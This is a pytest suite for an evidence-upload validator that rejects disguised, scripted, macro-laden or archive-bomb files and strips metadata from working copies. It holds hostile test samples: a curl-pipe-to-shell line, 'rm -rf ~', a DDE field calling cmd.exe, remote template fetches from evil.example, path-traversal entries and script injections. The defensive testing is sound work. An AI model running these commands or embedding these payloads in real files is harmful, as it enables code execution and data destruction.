"""Evidence files: what is accepted, what is refused and why, and what staff get to open.

Every sample is built here. The module is pure, so no test touches the database.
"""

import hashlib
import io
import struct
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import ExifTags, Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from submissions import attachments
from submissions.attachments import AttachmentRejected, check_file, check_files
from submissions.attachments.hidden import _WINDOW as WINDOW

MB = 1024 * 1024
PERSON = "Ivan Petrov"


def upload(name, data, content_type="application/octet-stream"):
    # The browser's content type is deliberately wrong in most tests: it must not matter.
    return SimpleUploadedFile(name, data, content_type=content_type)


def rejection(excinfo):
    error = excinfo.value
    return error.code, error.messages[0]


# Samples -------------------------------------------------------------------------------------------


def gps_exif():
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SpyPhone"
    exif[ExifTags.Base.Artist] = PERSON
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (38.0, 33.0, 36.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (68.0, 46.0, 48.0)
    return exif


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>XMP Ivan Petrov</dc:creator>'
    b"</rdf:Description></rdf:RDF></x:xmpmeta>"
)


def jpeg_bytes(size=(40, 20), *, orientation=None, comment=None, metadata=True):
    exif = gps_exif() if metadata else Image.Exif()
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    options = {"exif": exif}
    if metadata:
        options.update(xmp=XMP, comment=b"shot by " + PERSON.encode())
    if comment is not None:
        options["comment"] = comment
    output = io.BytesIO()
    Image.new("RGB", size, "red").save(output, "JPEG", **options)
    return output.getvalue()


def png_bytes(*, text=PERSON):
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", text)
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    output = io.BytesIO()
    Image.new("RGBA", (30, 30), (0, 128, 0, 128)).save(output, "PNG", pnginfo=info, exif=gps_exif())
    return output.getvalue()


def pdf_bytes():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": PERSON, "/Creator": "Office of " + PERSON})
    writer.xmp_metadata = XMP
    writer.add_open_action(JavaScript("app.alert('opened');"))
    writer.root_object[NameObject("/OpenAction")] = JavaScript("app.launchURL('https://tracker.example/open');")
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
            NameObject("/A"): JavaScript("app.launchURL('https://tracker.example/click');"),
        }
    )
    writer.add_annotation(0, link)
    writer.add_attachment("contacts.txt", b"secret contact list")
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def zip_bytes(entries, *, compression=zipfile.ZIP_DEFLATED):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression) as archive:
        for name, content in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_STORED if name == "mimetype" else compression
            archive.writestr(info, content)
    return output.getvalue()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DOCX_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="jpeg" ContentType="image/jpeg"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationship(kind, target, mode="External"):
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{RELS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def docx_entries():
    return {
        "[Content_Types].xml": DOCX_TYPES,
        "_rels/.rels": relationship("officeDocument", "word/document.xml", "Internal"),
        "word/document.xml": (
            f"<w:document {W}><w:body><w:p><w:r><w:t>Arrested on 3 May</w:t></w:r></w:p>"
            f'<w:ins w:id="1" w:author="{PERSON}" w:date="2024-05-03T10:00:00Z"><w:r><w:t>at night</w:t></w:r>'
            "</w:ins></w:body></w:document>"
        ),
        "word/_rels/document.xml.rels": relationship("hyperlink", "https://example.org/news"),
        "word/comments.xml": f'<w:comments {W}><w:comment w:id="0" w:author="{PERSON}" w:initials="IP"/></w:comments>',
        "word/media/image1.jpeg": jpeg_bytes(),
        "docProps/core.xml": (
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/">'
            f"<dc:creator>{PERSON}</dc:creator><cp:lastModifiedBy>{PERSON}</cp:lastModifiedBy></cp:coreProperties>"
        ),
        "docProps/app.xml": "<Properties><Company>Secret Shelter NGO</Company></Properties>",
        "docProps/custom.xml": '<Properties><property name="Case officer"><vt:lpwstr>Olga</vt:lpwstr></property>'
        "</Properties>",
    }


def docx_bytes(**changes):
    entries = docx_entries()
    for name, content in changes.items():
        entries[name.replace("__", "/")] = content
    return zip_bytes({name: content for name, content in entries.items() if content is not None})


ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
OFFICE = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'


def odt_entries():
    return {
        "mimetype": ODT_MIMETYPE,
        "META-INF/manifest.xml": (
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>"
        ),
        "content.xml": (
            f'<office:document-content {OFFICE} xmlns:dc="http://purl.org/dc/elements/1.1/" office:version="1.3">'
            f"<office:body><office:text><office:annotation><dc:creator>{PERSON}</dc:creator></office:annotation>"
            "<text:p>Arrested on 3 May</text:p></office:text></office:body></office:document-content>"
        ),
        "meta.xml": (
            f'<office:document-meta {OFFICE} office:version="1.3"><office:meta>'
            f"<meta:initial-creator>{PERSON}</meta:initial-creator><dc:creator>{PERSON}</dc:creator>"
            "<meta:generator>LibreOffice</meta:generator></office:meta></office:document-meta>"
        ),
        "Pictures/photo.jpg": jpeg_bytes(),
    }


def odt_bytes(**changes):
    entries = odt_entries()
    for name, content in changes.items():
        entries[name.replace("__", "/")] = content
    return zip_bytes({name: content for name, content in entries.items() if content is not None})


ID3_TAG = b"ID3\x04\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10  # version 2.4, 10 bytes of padding
MP3_FRAME = b"\xff\xfb\x90\x64" + b"\x00" * 413  # MPEG-1 Layer III, 128 kbit/s, 44.1 kHz


def box(kind, payload=b""):
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4_bytes(major=b"isom", compatible=b"isomiso2avc1mp41"):
    return (
        box(b"ftyp", major + struct.pack(">I", 512) + compatible)
        + box(b"free")
        + box(b"mdat", b"\x01" * 200)
        + box(b"moov", box(b"mvhd", b"\x00" * 100))
    )


def entry(archive_bytes, name):
    with zipfile.ZipFile(io.BytesIO(archive_bytes)) as archive:
        return archive.read(name)


def all_entries(archive_bytes):
    with zipfile.ZipFile(io.BytesIO(archive_bytes)) as archive:
        return b"".join(archive.read(info) for info in archive.infolist())


# Accepted types ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "kind", "content_type"),
    [
        ("report.pdf", pdf_bytes(), "pdf", "application/pdf"),
        ("photo.jpg", jpeg_bytes(), "jpeg", "image/jpeg"),
        ("photo.jpeg", jpeg_bytes(), "jpeg", "image/jpeg"),
        ("screenshot.png", png_bytes(), "png", "image/png"),
        (
            "statement.docx",
            docx_bytes(),
            "docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("statement.odt", odt_bytes(), "odt", "application/vnd.oasis.opendocument.text"),
        ("notes.txt", "Задержан 3 мая в Душанбе.\nArrested on 3 May.\n".encode(), "text", "text/plain"),
        ("call.mp3", ID3_TAG + MP3_FRAME * 3, "mp3", "audio/mpeg"),
        ("call.mp3", MP3_FRAME * 3, "mp3", "audio/mpeg"),
        ("arrest.mp4", mp4_bytes(), "mp4", "video/mp4"),
        ("memo.m4a", mp4_bytes(major=b"M4A ", compatible=b"M4A mp42isom"), "mp4", "audio/mp4"),
    ],
)
def test_it_accepts_each_allowed_type_by_its_content(name, data, kind, content_type):
    checked = check_file(upload(name, data, content_type="text/html"))

    assert checked.kind == kind
    assert checked.content_type == content_type
    assert checked.name == name
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert checked.original == data


def test_it_keeps_the_original_bytes_untouched_as_evidence():
    data = jpeg_bytes()

    checked = check_file(upload("photo.jpg", data))

    assert checked.original == data
    assert b"SpyPhone" in checked.original
    assert checked.working_copy != data


def test_it_accepts_an_uppercase_extension():
    assert check_file(upload("PHOTO.JPG", jpeg_bytes())).kind == "jpeg"


def test_it_appends_the_right_extension_to_a_name_without_one():
    assert check_file(upload("evidence", png_bytes())).name == "evidence.png"


def test_it_does_not_take_a_date_for_an_extension():
    assert check_file(upload("Protest 12.05.2022", jpeg_bytes())).name == "Protest 12.05.2022.jpg"


def test_it_accepts_an_email_saved_as_text():
    text = b"From: officer@example.org\nSubject: your brother\n\nWe know where you live.\n"

    assert check_file(upload("threat.txt", text)).kind == "text"


def test_it_accepts_text_that_starts_with_letters_of_a_binary_signature():
    assert check_file(upload("cars.txt", b"BMW cars were seized at the border.\n")).kind == "text"


def test_it_accepts_a_docx_based_on_a_template_on_the_authors_disk():
    rels = relationship("attachedTemplate", "file:///C:/Users/ngo/Templates/Letterhead.dotx")

    assert check_file(upload("letter.docx", docx_bytes(**{"word/_rels/settings.xml.rels": rels}))).kind == "docx"


def test_it_does_not_show_the_content_in_its_repr():
    checked = check_file(upload("notes.txt", b"the secret narrative"))

    assert "secret" not in repr(checked)


# Names that lie ------------------------------------------------------------------------------------


def test_it_rejects_a_png_named_pdf():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("report.pdf", png_bytes(), content_type="application/pdf"))

    code, message = rejection(excinfo)
    assert code == "name_mismatch"
    assert "report.pdf" in message
    assert "PNG image" in message
    assert "does not match its name" in message


def test_it_rejects_a_pdf_named_jpg():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("photo.jpg", pdf_bytes()))

    assert rejection(excinfo)[0] == "name_mismatch"


def test_it_rejects_text_named_csv_so_that_no_spreadsheet_runs_its_formulas():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("list.csv", b'name,amount\n=HYPERLINK("http://x"),1\n'))

    assert rejection(excinfo)[0] == "name_mismatch"


def test_it_sees_through_a_right_to_left_override_in_the_name():
    # Displayed as "reportexe.pdf"; the real extension is .exe.
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("report\u202efdp.exe", pdf_bytes()))

    code, message = rejection(excinfo)
    assert code == "name_mismatch"
    assert "\u202e" not in message
    assert "reportfdp.exe" in message


# Types not accepted --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("report.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200),
        ("report.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),
        ("archive.zip", zip_bytes({"a.txt": "hello"})),
        ("table.xlsx", zip_bytes({"[Content_Types].xml": DOCX_TYPES.replace("wordprocessingml", "spreadsheetml")})),
        ("clip.mov", box(b"ftyp", b"qt  \x00\x00\x02\x00qt  ") + box(b"mdat", b"\x00" * 50)),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500),
    ],
)
def test_it_rejects_a_type_that_is_not_on_the_list(name, data):
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload(name, data))

    code, message = rejection(excinfo)
    assert code == "type_not_accepted"
    assert name in message
    assert "PDF, JPEG, PNG, DOCX, ODT" in message


@pytest.mark.parametrize(
    "text",
    [
        b"<!DOCTYPE html><html><body>hello</body></html>",
        b"  \n<html><body>hello</body></html>",
        b"<script>document.location='http://x'</script>",
        b"Dear officer,\nplease read this.\n<script>alert(1)</script>\n",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"<?xml version='1.0'?><report/>",
        b"#!/bin/sh\nrm -rf ~\n",
        b"{\\rtf1\\ansi hello}",
        b"import os\nos.system('curl http://x | sh')\n",
    ],
)
def test_it_rejects_a_text_file_that_is_really_markup_or_a_script(text):
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("notes.txt", text))

    code, message = rejection(excinfo)
    assert code == "not_plain_text"
    assert "notes.txt" in message


def test_it_asks_for_utf8_when_text_is_utf16():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("notes.txt", "Задержан 3 мая".encode("utf-16")))

    assert rejection(excinfo)[0] == "not_utf8"


def test_it_rejects_text_with_nul_bytes():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("notes.txt", b"hello\x00world"))

    assert rejection(excinfo)[0] == "type_not_accepted"


def test_it_asks_for_utf8_when_text_is_in_another_encoding():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("notes.txt", "Задержан 3 мая".encode("cp1251")))

    code, message = rejection(excinfo)
    assert code == "not_utf8"
    assert "UTF-8" in message


def test_it_rejects_an_empty_file():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("empty.pdf", b""))

    code, message = rejection(excinfo)
    assert code == "empty"
    assert "empty.pdf" in message


# Damaged files -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("report.pdf", b"%PDF-1.7\n this is not a pdf"),
        ("photo.jpg", jpeg_bytes()[:200]),
        ("photo.png", png_bytes()[:100]),
        ("call.mp3", ID3_TAG + b"\x00" * 300),
        ("arrest.mp4", mp4_bytes() + b"\x00\x00\x00"),
        ("statement.docx", b"PK\x03\x04" + b"\x00" * 100),
    ],
)
def test_it_rejects_a_damaged_file(name, data):
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload(name, data))

    code, message = rejection(excinfo)
    assert code == "damaged"
    assert name in message


def test_it_rejects_a_picture_with_too_many_pixels(monkeypatch):
    monkeypatch.setattr(attachments.limits, "MAX_IMAGE_PIXELS", 100)

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("photo.jpg", jpeg_bytes(size=(20, 20))))

    assert rejection(excinfo)[0] == "image_too_large"


# Polyglots -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("report.pdf", pdf_bytes() + zip_bytes({"payload.exe": b"MZ" + b"\x00" * 100})),
        ("photo.jpg", jpeg_bytes() + zip_bytes({"payload.js": "alert(1)"})),
        ("photo.png", png_bytes() + zip_bytes({"payload.js": "alert(1)"})),
        ("photo.jpg", jpeg_bytes(comment=b"<script>alert(1)</script>", metadata=False)),
        ("photo.png", png_bytes(text="<html><body onload=alert(1)>")),
        ("report.pdf", pdf_bytes() + b"\n<html><script>alert(1)</script></html>"),
        ("call.mp3", ID3_TAG + MP3_FRAME * 2 + zip_bytes({"x.txt": "hidden"})),
        ("arrest.mp4", mp4_bytes() + zip_bytes({"x.txt": "hidden"})),
    ],
)
def test_it_rejects_a_file_that_carries_a_hidden_archive_or_script(name, data):
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload(name, data))

    code, message = rejection(excinfo)
    assert code == "hidden_content"
    assert name in message


def in_any_case(word: str) -> st.SearchStrategy[str]:
    return st.tuples(*(st.sampled_from(sorted({letter.lower(), letter.upper()})) for letter in word)).map("".join)


# Every tag that runs when rendered, in any mix of cases, with any character that ends a tag name.
HIDDEN_TAGS = st.one_of(
    st.builds(
        "<{}{}".format,
        st.sampled_from(["script", "iframe", "object", "embed", "svg", "html"]).flatmap(in_any_case),
        st.sampled_from(" \t\n\r\x0b\x0c>/"),
    ),
    in_any_case("php").map("<?{}".format),
).map(str.encode)


@settings(max_examples=40, deadline=None)
@given(offset=st.integers(-24, 24) | st.integers(-WINDOW, WINDOW), tag=HIDDEN_TAGS)
def test_it_finds_hidden_markup_wherever_it_sits_in_a_large_file(offset, tag):
    # The scan goes a window at a time (a request thread never holds the others up long): a tag across
    # the border of two windows is found too.
    start = 2 * WINDOW + offset
    data = pdf_bytes() + b"0" * start + tag + b"0" * 40

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("large.pdf", data), working_copy=False)

    assert rejection(excinfo)[0] == "hidden_content"


def test_it_accepts_a_pdf_whose_comments_carry_xhtml_rich_text():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    rect = ArrayObject([NumberObject(0), NumberObject(0), NumberObject(20), NumberObject(20)])
    rich_text = '<?xml version="1.0"?><body xmlns="http://www.w3.org/1999/xhtml"><p>Checked by the lawyer</p></body>'
    writer.add_annotation(
        0,
        DictionaryObject(
            {
                NameObject("/Subtype"): NameObject("/Text"),
                NameObject("/Rect"): rect,
                NameObject("/RC"): TextStringObject(rich_text),
            }
        ),
    )
    output = io.BytesIO()
    writer.write(output)

    assert check_file(upload("reviewed.pdf", output.getvalue())).kind == "pdf"


def test_it_rejects_html_in_front_of_a_pdf():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("report.pdf", b"<html><script>alert(1)</script></html>\n" + pdf_bytes()))

    assert rejection(excinfo)[0] == "not_plain_text"


# Archives ------------------------------------------------------------------------------------------


def test_it_rejects_a_zip_bomb_by_its_compression_ratio():
    data = docx_bytes(**{"word/document.xml": b"\x00" * (20 * MB)})

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.docx", data))

    code, message = rejection(excinfo)
    assert code == "archive_too_large"
    assert "statement.docx" in message
    assert "100 MB" in message


def test_it_rejects_an_archive_too_large_when_unpacked(monkeypatch):
    monkeypatch.setattr(attachments.limits, "MAX_UNPACKED_BYTES", 1 * MB)
    data = docx_bytes(**{"word/media/noise.bin": _random_bytes(2 * MB)})

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.docx", data))

    assert rejection(excinfo)[0] == "archive_too_large"


def _random_bytes(size):
    output = bytearray()
    block = b"seed"
    while len(output) < size:
        block = hashlib.sha256(block).digest()
        output += block
    return bytes(output[:size])


def test_it_rejects_an_archive_with_too_many_entries():
    entries = {f"word/media/part{number}.xml": _random_bytes(64) for number in range(1001)}

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.docx", docx_bytes(**entries)))

    assert rejection(excinfo)[0] == "archive_too_large"


@pytest.mark.parametrize("entry_name", ["../../etc/cron.d/evil", "/etc/passwd", "C:/Windows/evil.xml", "word\\x.xml"])
def test_it_rejects_an_archive_with_an_unsafe_path(entry_name):
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.docx", docx_bytes(**{entry_name: "x"})))

    assert rejection(excinfo)[0] == "unsafe_archive"


def test_it_rejects_an_archive_with_two_spellings_of_one_part():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.docx", docx_bytes(**{"WORD/Document.xml": "<w:document/>"})))

    assert rejection(excinfo)[0] == "unsafe_archive"


@pytest.mark.parametrize(
    "entries",
    [
        {"word/embeddings/archive.zip": zip_bytes({"a.txt": "x"})},
        {"word/media/image2.png": zip_bytes({"a.txt": "x"})},  # an archive dressed as a picture
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100},
        {"word/afchunk.mht": "MIME-Version: 1.0"},
        {"word/media/tool.exe": b"MZ" + b"\x00" * 100},
    ],
)
def test_it_rejects_a_document_with_an_embedded_archive_or_program(entries):
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.docx", docx_bytes(**entries)))

    code, message = rejection(excinfo)
    assert code == "embedded_file"
    assert "statement.docx" in message


def test_it_rejects_a_docx_with_macros():
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.docx", docx_bytes(**{"word/vbaProject.bin": vba})))

    code, message = rejection(excinfo)
    assert code == "macros"
    assert "macros" in message


def test_it_rejects_a_macro_enabled_document_renamed_docx():
    types = DOCX_TYPES.replace(
        "officedocument.wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
    ).replace("application/vnd.openxmlformats-", "application/vnd.")

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.docx", docx_bytes(**{"[Content_Types].xml": types})))

    assert rejection(excinfo)[0] == "macros"


def test_it_rejects_a_docx_with_a_dde_field_split_across_runs():
    document = (
        f'<w:document {W}><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
    )

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.docx", docx_bytes(**{"word/document.xml": document})))

    assert rejection(excinfo)[0] == "macros"


@pytest.mark.parametrize(
    "entries",
    [
        {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "https://evil.example/t.dotm")},
        {"word/_rels/document.xml.rels": relationship("image", "https://tracker.example/pixel.png")},
        {"word/_rels/document.xml.rels": relationship("oleObject", "mhtml:http://evil.example/x.html!x")},
        {"word/_rels/document.xml.rels": relationship("image", "\\\\203.0.113.9\\share\\x.png")},
        {
            "word/document.xml": f'<w:document {W}><w:body><w:p><w:fldSimple w:instr=" INCLUDEPICTURE '
            '&quot;https://tracker.example/p.png&quot; \\d"/></w:p></w:body></w:document>'
        },
    ],
)
def test_it_rejects_a_docx_that_fetches_content_when_opened(entries):
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.docx", docx_bytes(**entries)))

    code, message = rejection(excinfo)
    assert code == "external_content"
    assert "statement.docx" in message


def test_it_rejects_an_odt_with_basic_macros():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.odt", odt_bytes(**{"Basic/Standard/Module1.xml": "<script:module/>"})))

    assert rejection(excinfo)[0] == "macros"


def test_it_rejects_an_odt_whose_events_call_a_script():
    content = (
        f"<office:document-content {OFFICE}><office:scripts><office:event-listeners><script:event-listener "
        'xlink:href="vnd.sun.star.script:LibreLogo|LibreLogo.py$run?location=share"/></office:event-listeners>'
        "</office:scripts></office:document-content>"
    )

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.odt", odt_bytes(**{"content.xml": content})))

    assert rejection(excinfo)[0] == "macros"


def test_it_rejects_an_odt_with_a_linked_remote_image():
    content = (
        f'<office:document-content {OFFICE}><draw:frame><draw:image xlink:href="https://tracker.example/p.png"/>'
        "</draw:frame></office:document-content>"
    )

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.odt", odt_bytes(**{"content.xml": content})))

    assert rejection(excinfo)[0] == "external_content"


def test_it_rejects_a_password_protected_odt():
    manifest = (
        "<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
    )

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("statement.odt", odt_bytes(**{"META-INF/manifest.xml": manifest})))

    assert rejection(excinfo)[0] == "encrypted"


def test_it_rejects_a_spreadsheet_in_opendocument_format():
    data = odt_bytes(mimetype="application/vnd.oasis.opendocument.spreadsheet")

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("table.odt", data))

    assert rejection(excinfo)[0] == "type_not_accepted"


# Sizes and counts ----------------------------------------------------------------------------------


def test_it_rejects_a_file_over_the_limit():
    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("video.mp4", b"a" * (10 * MB + 1)))

    code, message = rejection(excinfo)
    assert code == "too_large"
    assert "video.mp4" in message
    assert "10 MB" in message


def test_it_accepts_a_file_exactly_at_the_limit():
    data = b"a" * 99 + b"\n"

    assert check_file(upload("notes.txt", data), max_bytes=100).size == 100


class CountingFile(io.BytesIO):
    def __init__(self, data):
        super().__init__(data)
        self.bytes_read = 0

    def read(self, size=-1):
        chunk = super().read(size)
        self.bytes_read += len(chunk)
        return chunk


def test_it_never_reads_more_than_one_byte_past_the_limit_even_when_the_size_is_wrong():
    file = upload("video.mp4", b"")
    file.file = CountingFile(b"a" * (3 * MB))
    file.size = 10  # a stream whose announced size is wrong

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(file, max_bytes=MB)

    assert rejection(excinfo)[0] == "too_large"
    assert file.file.bytes_read == MB + 1


def test_it_rejects_more_than_ten_files():
    uploads = [upload(f"note{number}.txt", b"hello\n") for number in range(11)]

    with pytest.raises(AttachmentRejected) as excinfo:
        check_files(uploads)

    code, message = rejection(excinfo)
    assert code == "too_many_files"
    assert "11" in message
    assert "10" in message


def test_it_rejects_files_that_add_up_to_more_than_the_total():
    uploads = [upload(f"note{number}.txt", b"a" * (9 * MB)) for number in range(3)]

    with pytest.raises(AttachmentRejected) as excinfo:
        check_files(uploads)

    code, message = rejection(excinfo)
    assert code == "total_too_large"
    assert "25 MB" in message


def test_it_accepts_ten_files_within_the_total():
    uploads = [upload(f"note{number}.txt", b"hello\n") for number in range(9)] + [upload("photo.jpg", jpeg_bytes())]

    checked = check_files(uploads)

    assert [item.kind for item in checked] == ["text"] * 9 + ["jpeg"]


def test_it_names_every_rejected_file_of_a_report_at_once():
    uploads = [upload("ok.txt", b"hello\n"), upload("report.pdf", png_bytes()), upload("empty.txt", b"")]

    with pytest.raises(AttachmentRejected) as excinfo:
        check_files(uploads)

    assert [error.code for error in excinfo.value.error_list] == ["name_mismatch", "empty"]
    assert any("report.pdf" in message for message in excinfo.value.messages)
    assert any("empty.txt" in message for message in excinfo.value.messages)


def test_its_rejection_is_a_validation_error_for_forms():
    with pytest.raises(ValidationError):
        check_file(upload("empty.txt", b""))


def test_its_messages_never_quote_the_content():
    secret = b"<script>secret narrative</script>"

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("notes.txt", secret))

    assert "secret narrative" not in excinfo.value.messages[0]


# Working copies ------------------------------------------------------------------------------------


def test_its_jpeg_working_copy_has_no_exif_gps_xmp_or_comment():
    original = jpeg_bytes()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the sample has GPS

    working_copy = check_file(upload("photo.jpg", original)).working_copy

    image = Image.open(io.BytesIO(working_copy))
    assert image.format == "JPEG"
    assert not image.getexif()
    assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert "xmp" not in image.info
    assert "comment" not in image.info
    for trace in (b"Exif", b"SpyPhone", PERSON.encode(), b"xmpmeta"):
        assert trace not in working_copy


def test_its_jpeg_working_copy_keeps_the_orientation_the_exif_gave():
    working_copy = check_file(upload("photo.jpg", jpeg_bytes(size=(40, 20), orientation=6))).working_copy

    assert Image.open(io.BytesIO(working_copy)).size == (20, 40)


def test_its_png_working_copy_has_no_text_exif_or_xmp_chunks():
    working_copy = check_file(upload("screenshot.png", png_bytes())).working_copy

    image = Image.open(io.BytesIO(working_copy))
    assert image.format == "PNG"
    assert image.mode == "RGBA"
    assert not image.getexif()
    for chunk in (b"tEXt", b"iTXt", b"zTXt", b"eXIf", PERSON.encode(), b"SpyPhone"):
        assert chunk not in working_copy


def test_its_pdf_working_copy_has_no_author_xmp_scripts_or_attachments():
    original = pdf_bytes()
    assert PERSON.encode() in original

    working_copy = check_file(upload("report.pdf", original)).working_copy

    reader = PdfReader(io.BytesIO(working_copy))
    assert len(reader.pages) == 1
    assert not reader.metadata
    assert reader.xmp_metadata is None
    assert "/OpenAction" not in reader.trailer["/Root"]
    assert "/Names" not in reader.trailer["/Root"]
    assert reader.pages[0]["/Annots"][0].get_object().get("/A") is None
    for trace in (PERSON.encode(), b"app.", b"tracker.example", b"/JavaScript", b"/EmbeddedFile", b"secret contact"):
        assert trace not in working_copy


def test_its_pdf_working_copy_drops_attached_files_and_field_scripts_of_pages():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    attached = DecodedStreamObject()
    attached.set_data(b"attached secret")
    rect = ArrayObject([NumberObject(0), NumberObject(0), NumberObject(20), NumberObject(20)])
    writer.add_annotation(
        0,
        DictionaryObject(
            {
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): rect,
                NameObject("/FS"): DictionaryObject(
                    {NameObject("/EF"): DictionaryObject({NameObject("/F"): attached})}
                ),
            }
        ),
    )
    field = DictionaryObject(
        {
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/AA"): DictionaryObject({NameObject("/K"): JavaScript("app.alert('typed');")}),
        }
    )
    writer.add_annotation(
        0,
        DictionaryObject(
            {NameObject("/Subtype"): NameObject("/Widget"), NameObject("/Rect"): rect, NameObject("/Parent"): field}
        ),
    )
    output = io.BytesIO()
    writer.write(output)
    assert b"attached secret" in output.getvalue()

